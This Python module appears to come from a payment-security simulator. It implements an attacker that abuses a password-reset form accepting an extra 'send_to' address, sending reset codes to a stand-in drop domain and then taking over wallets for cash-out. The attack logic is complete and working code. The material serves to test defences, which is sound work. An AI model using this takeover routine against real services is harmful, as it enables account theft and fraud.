"""7pay's other door: the password reset form took a second address to mail the code to. For every list
entry whose password was wrong, the attacker asks for a reset of that e-mail with the code sent to a drop
box of its own (``drop<N>@drop.example.org``), reads the drop box, sets a password of its own with the
code and signs in on a new phone: the account is taken over without its password.

The drop box is the core's outbox (the simulated mail service, ``payment_core.outbox``): the attacker
reads the messages addressed to its own domain and nothing else, read-only. Against possim the form
refuses the second address (422, an unknown field), so no code ever leaves for the drop box.

Bounded like the rest of the attacker: one asking thread (at ``asks_per_second`` at most while the list
runs: a reset costs the core about what a sign-in does) and one reading thread, each stopping at the
deadline. Once the list is done (:meth:`finish`), the asking thread empties its queue and the reading
thread stops when every code that will come has come: the simulation knows which entries name a customer
(only those get mail), the attacker only stops reading then. Every answer is counted by what it was."""

from __future__ import annotations

import queue
import re
import secrets
import sqlite3
import threading
import time
from collections import Counter
from pathlib import Path

from possim.attack.list_client import ListClient
from protocol import ProtocolError
from wallet_app.state import WalletState

DROP_DOMAIN = "drop.example.org"
MAILBOX_POLL_SECONDS = 0.25
REQUEST_TIMEOUT = 30.0
_DROP = re.compile(r"^drop(\d+)@" + re.escape(DROP_DOMAIN) + "$")
_CODE = re.compile(r"^Reset code: (\S+)$", re.MULTILINE)
_DROP_MAIL = 'SELECT id, "to", body FROM outbox WHERE id > ? AND "to" LIKE ? ORDER BY id LIMIT 500'


class ResetDoor:
    """Takes the entries whose password was wrong (:meth:`wrong_password`), hands every wallet it takes
    over to ``taken`` (the attacker's cash-out queue)."""

    def __init__(
        self,
        url: str,
        db: Path,
        emails: list[str],
        named: frozenset[int],
        addresses: list[str],
        taken: queue.Queue[WalletState | None],
        deadline: float,
        asks_per_second: float = 0.0,
    ) -> None:
        self.url, self.db, self.emails, self.named, self.addresses = url, db, emails, named, addresses
        self.taken, self.deadline, self.asks_per_second = taken, deadline, asks_per_second
        self.outcomes: Counter[str] = Counter()
        self.takeovers: list[WalletState] = []
        self._wrong: queue.Queue[int] = queue.Queue()
        self._lock = threading.Lock()
        self._list_done = threading.Event()
        self._asking_done = threading.Event()
        self._mail_coming = 0  # codes asked for entries that name a customer, not yet read

    def wrong_password(self, index: int) -> None:
        self._wrong.put(index)

    def finish(self) -> None:
        """The list is done: ask for what is queued, read what comes, then stop."""
        self._list_done.set()

    def _expired(self) -> bool:
        return time.monotonic() >= self.deadline

    def ask_worker(self) -> None:
        """Ask for each entry's reset, the code to go to the entry's own drop box."""
        clients: dict[str, ListClient] = {}
        started, asked = time.monotonic(), 0
        try:
            while not self._expired():
                if self.asks_per_second > 0 and not self._list_done.is_set():
                    early = started + asked / self.asks_per_second - time.monotonic()
                    if early > 0:
                        self._list_done.wait(min(early, self.deadline - time.monotonic()))  # paced; woken at the end
                        continue
                try:
                    index = self._wrong.get(timeout=0.5)
                except queue.Empty:
                    if self._list_done.is_set():
                        return
                    continue
                asked += 1
                address = self.addresses[index % len(self.addresses)]
                client = clients.get(address)
                if client is None:
                    client = clients[address] = ListClient(self.url, address, REQUEST_TIMEOUT)
                body = {"email": self.emails[index], "send_to": f"drop{index}@{DROP_DOMAIN}"}
                try:
                    status, _data = client.post("/v1/password-reset", body)
                    outcome = "asked" if status == 202 else f"refused_{status}"
                except ProtocolError as error:
                    outcome = error.code.value
                with self._lock:
                    self.outcomes[outcome] += 1
                    self._mail_coming += outcome == "asked" and index in self.named
        finally:
            self._asking_done.set()
            for client in clients.values():
                client.close()

    def _all_read(self) -> bool:
        with self._lock:
            return self._asking_done.is_set() and self._mail_coming <= 0

    def mailbox_worker(self) -> None:
        """Read the drop boxes; with each code, set a new password and sign in on a new phone."""
        client = ListClient(self.url, self.addresses[0], REQUEST_TIMEOUT)
        last = 0
        try:
            with sqlite3.connect(f"file:{self.db}?mode=ro", uri=True, timeout=30.0) as mailbox:
                while not self._expired() and not self._all_read():
                    rows = mailbox.execute(_DROP_MAIL, (last, f"%@{DROP_DOMAIN}")).fetchall()
                    for row_id, to, body in rows:
                        last = row_id
                        self._use(client, str(to), str(body))
                    if not rows:
                        time.sleep(MAILBOX_POLL_SECONDS)  # a mailbox is polled: there is nothing to wait on
        finally:
            client.close()

    def _use(self, client: ListClient, to: str, body: str) -> None:
        drop, code = _DROP.match(to), _CODE.search(body)
        if drop is None or code is None:
            return
        with self._lock:
            self.outcomes["codes_received"] += 1
            self._mail_coming -= 1
        email, password = self.emails[int(drop.group(1))], f"Taken-{secrets.token_hex(10)}"
        status, _data = client.post("/v1/password-reset/confirm", {"token": code.group(1), "new_password": password})
        if status != 200:
            self._count(f"reset_refused_{status}")
            return
        try:
            state = client.enroll(email, password, "000000", "iPhone")
        except ProtocolError as error:
            self._count(f"enroll_{error.code.value}")
            return
        self._count("taken_over")
        self.takeovers.append(state)
        self.taken.put(state)

    def _count(self, outcome: str) -> None:
        with self._lock:
            self.outcomes[outcome] += 1
